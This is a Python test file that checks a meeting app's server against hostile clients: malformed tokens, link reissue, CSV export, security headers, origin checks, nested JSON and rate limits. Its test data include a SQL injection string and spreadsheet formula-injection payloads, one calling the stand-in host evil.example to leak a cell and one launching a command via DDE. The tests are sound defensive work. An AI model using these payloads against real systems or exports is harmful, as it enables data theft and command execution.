"""What a link grants and what no client can break: tokens of any alphabet, re-issued links,
exports, headers, origins, hostile JSON, rate limits."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import logging
import os
import socket
from collections.abc import Callable
from typing import Any

import pytest
import socketio

from server.app import OUTBOUND
from tests.conftest import ADMIN, PEOPLE, Running
from tests.procs import eventually
from tests.transport.gathering import gather

HOSTILE = ["été", "\u202e", "%00", "a/b", "x" * 5000, "😀", "'; DROP TABLE event; --", "\udcff"]


async def refused(server: Running, namespace: str, auth: Any, **kw: Any) -> Any:
    sio = socketio.AsyncClient(reconnection=False)
    errors: list[Any] = []
    sio.on("connect_error", errors.append, namespace=namespace)
    with pytest.raises(socketio.exceptions.ConnectionError):
        await sio.connect(
            server.url, namespaces=[namespace], auth=auth, transports=["websocket"],
            wait_timeout=10, **kw,
        )  # fmt: skip
    return errors[0]["data"] if errors and isinstance(errors[0], dict) else errors


# --- links ---------------------------------------------------------------------------------


@pytest.mark.parametrize("token", HOSTILE, ids=range(len(HOSTILE)))
async def test_a_malformed_token_of_any_alphabet_is_refused_cleanly(
    server: Running, token: str, caplog: pytest.LogCaptureFixture
) -> None:
    ev = await server.event(PEOPLE[:1])
    safe = token.encode("utf-8", "surrogatepass").decode("latin-1")  # as a header can carry it
    status, body = await server.api(
        "GET", "/api/events", headers={"Authorization": f"Bearer {safe}"}
    )
    assert status == 401 and body["error"]["code"] == "unauthorized"
    for kind in ("p", "host", "mod", "join"):
        path = f"/e/{ev.id}/{kind}/{token.encode('utf-8', 'surrogatepass').hex()}"
        async with server.http.get(server.url + path) as r:
            assert r.status in (400, 404)  # 400: aiohttp's own answer to a path too long
    async with server.http.get(f"{server.url}/e/{ev.id}/host/%C3%A9t%C3%A9/schedule") as r:
        assert r.status == 404
    if token.isprintable() or "\udcff" not in token:  # a lone surrogate cannot be sent as JSON
        data = await refused(server, "/participant", {"token": token})
        assert data["code"] == "bad_token"
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


async def test_a_reissued_link_replaces_the_old_one_at_once(server: Running) -> None:
    g = await gather(server)
    pid = next(iter(g.people))
    old = g.tokens[pid]
    status, body = await server.api("POST", f"/api/events/{g.ev.id}/links", json={"who": pid})
    assert status == 201 and body["who"] == pid
    new = body["url"].rsplit("/", 1)[1]
    assert new != old and body["url"].endswith(f"/e/{g.ev.id}/p/{new}")
    # the page open with the old link is told, then closed
    told = await g.people[pid].wait_for("revoked")
    assert told["code"] == "link_revoked"
    await eventually(lambda: _gone(g.people[pid].sio))
    data = await refused(server, "/participant", {"token": old})
    assert data["code"] == "bad_token" and "replaced" in data["message"]
    async with server.http.get(f"{server.url}/e/{g.ev.id}/p/{old}") as r:
        assert r.status == 404
    # the new link opens the same person, in the same room
    again = await server.connect("/participant", new)
    assert (await again.wait_for("assignment"))["room"] == g.room(pid)
    # nobody else was touched
    assert all(c.sio.connected for p, c in g.people.items() if p != pid)


async def _gone(sio: socketio.AsyncClient) -> bool:
    return not sio.connected


@pytest.mark.parametrize("who", ["moderator", "registration", "host"])
async def test_the_host_reissues_staff_and_sign_up_links(server: Running, who: str) -> None:
    ev = await server.event(PEOPLE)
    host = await server.connect("/host", ev.host_token)
    mod = await server.connect("/moderator", ev.moderator_token)
    await mod.wait_for("snapshot")
    ack = await host.call("reissue", {"who": who})
    assert ack["ok"], ack
    page = {"moderator": "mod", "registration": "join", "host": "host"}[who]
    assert f"/e/{ev.id}/{page}/" in ack["url"]
    old = {"moderator": ev.moderator_token, "host": ev.host_token}.get(who)
    if who == "registration":
        old = ev.body["registration_url"].rsplit("/", 1)[1]
    async with server.http.get(f"{server.url}/e/{ev.id}/{page}/{old}") as r:
        assert r.status == 404
    async with server.http.get(server.url + "/" + ack["url"].split("/", 3)[3]) as r:
        assert r.status == 200
    if who == "moderator":
        await mod.wait_for("revoked")
        await eventually(lambda: _gone(mod.sio))


async def test_reissuing_for_nobody_is_refused(server: Running) -> None:
    ev = await server.event(PEOPLE[:1])
    status, body = await server.api("POST", f"/api/events/{ev.id}/links", json={"who": "p99"})
    assert status == 404 and body["error"]["code"] == "unknown_participant"


# --- exports -------------------------------------------------------------------------------


async def test_the_results_cannot_carry_formulas(server: Running) -> None:
    people = [
        {"name": '=HYPERLINK("http://evil.example/?"&A2,"Click")', "side": "commune"},
        {"name": "@SUM(1+1)", "side": "solution", "organization": "-2+3"},
    ]
    g = await gather(server, people)
    await g.end_round()
    for pid, client in g.people.items():
        note = "+cmd|' /C calc'!A0" if pid == "p1" else "\tTAB"
        ack = await client.call("feedback", {"room": g.room(pid), "rating": 3, "note": note})
        assert ack["ok"], ack
    status, text = await server.api("GET", f"/api/events/{g.ev.id}/meetings.csv")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = {row["a_name"] for row in rows} | {row["b_name"] for row in rows}
    assert "'" + people[0]["name"] in names  # kept, as text
    notes = {row["a_note"] for row in rows} | {row["b_note"] for row in rows}
    assert "'+cmd|' /C calc'!A0" in notes


# --- headers and origins -------------------------------------------------------------------


async def test_pages_and_api_carry_the_security_headers(server: Running) -> None:
    ev = await server.event(PEOPLE[:1])
    for path in (f"/e/{ev.id}/host/{ev.host_token}", "/check", "/", "/api/events"):
        async with server.http.get(
            server.url + path, headers={"Authorization": f"Bearer {ADMIN}"}
        ) as r:
            h = r.headers
            assert "default-src 'self'" in h["Content-Security-Policy"], path
            assert "frame-ancestors 'none'" in h["Content-Security-Policy"]
            assert "script-src 'self';" in h["Content-Security-Policy"]  # no inline script
            assert h["Referrer-Policy"] == "no-referrer"
            assert h["X-Content-Type-Options"] == "nosniff"
            assert h["X-Frame-Options"] == "DENY"
            assert h["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    ("origin", "ok"),
    [("http://evil.example", False), ("null", False), ("http://127.0.0.1:1", False), ("own", True)],
)
async def test_socketio_accepts_only_its_own_origin(server: Running, origin: str, ok: bool) -> None:
    ev = await server.event(PEOPLE[:1])
    headers = {"Origin": server.url if origin == "own" else origin}
    sio = socketio.AsyncClient(reconnection=False)
    if ok:
        await sio.connect(
            server.url, namespaces=["/host"], auth={"token": ev.host_token},
            transports=["websocket"], headers=headers, wait_timeout=10,
        )  # fmt: skip
        await sio.disconnect()
    else:
        try:
            with pytest.raises(socketio.exceptions.ConnectionError):
                await sio.connect(
                    server.url, namespaces=["/host"], auth={"token": ev.host_token},
                    transports=["websocket"], headers=headers, wait_timeout=10,
                )  # fmt: skip
        finally:
            if sio.eio.http is not None:
                await sio.eio.http.close()


# --- hostile JSON --------------------------------------------------------------------------


async def test_deeply_nested_json_is_refused_without_a_traceback(
    server: Running, caplog: pytest.LogCaptureFixture
) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    async with server.http.post(server.url + "/api/check", data=deep) as r:
        assert r.status == 400 and (await r.json())["error"]["code"] == "bad_json"
    status, body = await server.api("POST", "/api/events", data=deep)
    assert status == 400 and body["error"]["code"] == "bad_json"
    g = await gather(server)
    pid = next(iter(g.people))
    partner = g.partner(pid)
    nested: Any = "x"
    for _ in range(40):
        nested = {"a": nested}
    ack = await g.people[pid].call("signal", {"to": partner, "data": nested})
    assert ack["ok"] is False and ack["error"]["code"] == "too_deep"
    # a packet whose JSON cannot even be read still gets its answer
    client = g.people[pid].sio
    raw = client.eio  # the engine.io client: send a Socket.IO EVENT with an ack id by hand
    answers: list[Any] = []
    client.callbacks.setdefault("/participant", {})[4242] = lambda *a: answers.append(a)
    await raw.send('2/participant,4242["help",' + "[" * 100_000 + "]" * 100_000 + "]")
    got = await eventually(lambda: _first(answers))
    assert got[0]["ok"] is False and got[0]["error"]["code"] == "bad_json"
    assert (await g.people[pid].call("time"))["ok"]  # and the socket goes on
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


async def _first(items: list[Any]) -> Any:
    return items[0] if items else None


# --- rate limits ---------------------------------------------------------------------------


async def test_one_socket_cannot_flood_and_help_has_a_cooldown(
    start: Callable[..., Any],
) -> None:
    server = await start(board_interval_ms=20, rate_events_per_second=5, rate_events_burst=10)
    g = await gather(server)
    pid = next(iter(g.people))
    client = g.people[pid]
    acks = [await client.call("stats", {"ice": "connected"}) for _ in range(30)]
    refused_ = [a for a in acks if not a["ok"]]
    assert refused_ and all(a["error"]["code"] == "rate_limited" for a in refused_)
    assert all(a["error"]["retry_after_ms"] > 0 for a in refused_)
    assert sum(a["ok"] for a in acks) <= 12  # the burst, and what came back meanwhile
    other = g.people[g.partner(pid)]
    assert (await other.call("help", {"text": "no sound"}))["ok"]
    again = await other.call("help", {"text": "still no sound"})
    assert again["ok"] is False and again["error"]["code"] == "rate_limited"
    helps = [d for e, d in g.mod.received if e == "help"]
    assert len(helps) == 1  # the moderators heard it once
    # a socket that keeps going while refused is disconnected, even when a call gets through
    # now and then (its bucket refills between two): what counts is that the refusals go on
    for _ in range(400):
        if not client.sio.connected:
            break
        try:
            await client.call("stats", {"ice": "connected"}, timeout=2)
        except Exception:
            break
    await eventually(lambda: _gone(client.sio))
    _, metrics = await server.api("GET", "/metrics")
    assert "speedmeet_rate_limited_total" in metrics


async def test_the_sign_up_link_has_a_rate(start: Callable[..., Any]) -> None:
    server = await start(signups_per_address_burst=3)
    ev = await server.event()
    url = server.url + "/" + ev.body["registration_url"].split("/", 3)[3]
    statuses = []
    for i in range(5):
        form = {"name": f"Someone {i}", "side": "commune", "consent": "yes"}
        async with server.http.post(url, data=form, allow_redirects=False) as r:
            statuses.append(r.status)
    assert statuses[:3] == [303, 303, 303] and statuses[3:] == [429, 429]
    _, people = await server.api("GET", f"/api/events/{ev.id}/participants")
    assert len(people) == 3


def _linked(ev: Any, token: str) -> dict[str, str]:
    """A self-test offer that never goes on, from a link of ``ev``."""
    return {"type": "offer", "sdp": OFFER, "event": ev.id, "token": token}


async def test_self_tests_that_never_connect_free_their_slot(start: Callable[..., Any]) -> None:
    server = await start(selftests_per_address=2, selftest_connect_seconds=0.5)
    ev = await server.event(PEOPLE[:1])
    offer = _linked(ev, ev.person(0)[1])
    for _ in range(2):
        async with server.http.post(server.url + "/api/check", json=offer) as r:
            assert r.status == 200
    async with server.http.post(server.url + "/api/check", json=offer) as r:
        assert r.status == 409 and (await r.json())["error"]["code"] == "busy"

    async def answered() -> bool:
        async with server.http.post(server.url + "/api/check", json=offer) as r:
            return r.status == 200

    assert await eventually(answered)  # the two that never connected were closed


async def test_a_self_test_needs_a_link_of_the_event(start: Callable[..., Any]) -> None:
    """Issue 17.8: on main anyone started the echo (about a core for 8 of them) with no link at
    all; now an offer carries a participant's link or the registration link of the event."""
    server = await start()
    ev = await server.event(PEOPLE[:2])
    other = await server.event(PEOPLE[:1])
    _, token = ev.person(0)
    refused = {
        "no link": {"type": "offer", "sdp": OFFER},
        "no token": {"type": "offer", "sdp": OFFER, "event": ev.id},
        "a wrong token": _linked(ev, "not-a-token"),
        "a link of another event": _linked(other, token),
        "the host's link": _linked(ev, ev.host_token),
        "a number as token": {**_linked(ev, token), "token": 12},
    }
    for what, offer in refused.items():
        async with server.http.post(server.url + "/api/check", json=offer) as r:
            body = await r.json()
            assert (r.status, body["error"]["code"]) == (401, "needs_link"), (what, body)
            assert "personal link" in body["error"]["message"], body
    for link, kind in ((token, "p"), (ev.token("registration_url"), "join")):
        async with server.http.post(server.url + "/api/check", json=_linked(ev, link)) as r:
            assert r.status == 200, await r.text()
        # the page that starts it, under the link
        async with server.http.get(f"{server.url}/e/{ev.id}/{kind}/{link}/check") as r:
            assert r.status == 200 and f'"token": "{link}"' in await r.text()
    async with server.http.get(f"{server.url}/e/{ev.id}/p/not-a-token/check") as r:
        assert r.status == 404


async def test_self_test_slots_are_per_event(start: Callable[..., Any]) -> None:
    """One event cannot take every self-test: it has its share; another event still gets one."""
    server = await start(selftests=4, selftests_per_event=2, selftests_per_address=10)
    busy, quiet = await server.event(PEOPLE[:3]), await server.event(PEOPLE[:1])
    answers = []
    for i in range(3):
        offer = _linked(busy, busy.person(i)[1])
        async with server.http.post(server.url + "/api/check", json=offer) as r:
            body = await r.json()
            answers.append(r.status if r.status == 200 else (r.status, body["error"]["why"]))
    assert answers == [200, 200, (409, "this_event")]
    async with server.http.post(
        server.url + "/api/check", json=_linked(quiet, quiet.person(0)[1])
    ) as r:
        assert r.status == 200


# a complete offer with one data channel, as a browser that never goes on would send it
OFFER = """v=0
o=- 4611731400430051336 2 IN IP4 127.0.0.1
s=-
t=0 0
a=group:BUNDLE 0
a=msid-semantic: WMS
m=application 9 UDP/DTLS/SCTP webrtc-datachannel
c=IN IP4 0.0.0.0
a=candidate:1 1 udp 2122260223 127.0.0.1 50000 typ host
a=ice-ufrag:abcd
a=ice-pwd:abcdefghijklmnopqrstuvwx
a=ice-options:trickle
a=fingerprint:sha-256 7B:8B:F0:65:5F:78:E2:51:3B:AC:6F:F3:3F:46:1B:35:DC:B8:5F:64:1A:24:C2:43:F0:A1:58:D0:A1:2C:19:08
a=setup:actpass
a=mid:0
a=sctp-port:5000
a=max-message-size:262144
""".replace("\n", "\r\n")


# --- a client that stops reading -------------------------------------------------------------


class Deaf:
    """A Socket.IO client over a raw websocket that, once connected, never reads again."""

    def __init__(self) -> None:
        self.writer: asyncio.StreamWriter | None = None

    async def connect(self, url: str, namespace: str, token: str) -> None:
        host, port = url.removeprefix("http://").split(":")
        reader, writer = await asyncio.open_connection(host, int(port), limit=1024)
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # fills at once
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            (
                "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n"
                f"Host: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
            ).encode()
        )
        await writer.drain()
        while (await reader.readline()) not in (b"\r\n", b""):
            pass  # the 101 answer
        self.writer = writer
        self.send(f'40{namespace},{{"token":"{token}"}}')  # Socket.IO CONNECT, then silence

    def send(self, text: str) -> None:
        """One masked websocket text frame."""
        assert self.writer is not None
        data = text.encode()
        mask = os.urandom(4)
        head = bytes([0x81]) + (
            bytes([0x80 | len(data)])
            if len(data) < 126
            else bytes([0xFE]) + len(data).to_bytes(2, "big")
        )
        self.writer.write(head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))

    def close(self) -> None:
        if self.writer is not None:
            self.writer.transport.abort()


async def test_a_client_that_stops_reading_is_disconnected_not_buffered(
    start: Callable[..., Any],
) -> None:
    server = await start(board_interval_ms=20, outbound_limit=50, outbound_limit_bytes=2_000_000,
                         rate_signals_per_second=1000, rate_signals_burst=1000,
                         rate_signal_bytes_burst=10_000_000)  # fmt: skip
    g = await gather(server)
    pid = next(iter(g.people))
    deaf_pid = g.partner(pid)
    await g.people[deaf_pid].close()
    deaf = Deaf()
    await deaf.connect(server.url, "/participant", g.tokens[deaf_pid])
    await g.mod.wait_board(lambda d: all(p["online"] for p in d["participants"]), timeout=10)
    outbound = server.server.app[OUTBOUND]
    peak, peak_bytes = 0, 0
    big = {"sdp": "x" * 20_000}
    try:
        for _ in range(400):  # 8 MB for a client that reads none of it
            ack = await g.people[pid].call("signal", {"to": deaf_pid, "data": big})
            if not ack["ok"]:
                break
            for waiting, size in outbound.backlog().values():
                peak, peak_bytes = max(peak, waiting), max(peak_bytes, size)
        await g.mod.wait_board(
            lambda d: not next(p for p in d["participants"] if p["id"] == deaf_pid)["online"],
        )
    finally:
        deaf.close()
    # checked as each packet is queued: never more than the limit, however fast the sender
    assert 0 < peak_bytes <= 2_000_000
    _, metrics = await server.api("GET", "/metrics")
    assert "speedmeet_slow_consumers_total 1.0" in metrics


async def test_one_person_s_help_budget_is_not_another_event_s(server: Running) -> None:
    """The help cooldown is per person: on main it was keyed by the bare participant id, and
    ``p1`` of one event spent the budget of ``p1`` in every other event."""
    first = await server.event(PEOPLE[:2])
    second = await server.event(PEOPLE[:2])
    a = await server.connect("/participant", first.person(0)[1])
    b = await server.connect("/participant", second.person(0)[1])
    assert first.person(0)[0] == second.person(0)[0] == "p1"
    assert (await a.call("help", {"text": "no sound"}))["ok"]
    assert (await b.call("help", {"text": "no sound either"}))["ok"]
    again = await a.call("help", {"text": "still no sound"})
    assert again["ok"] is False and again["error"]["code"] == "rate_limited"
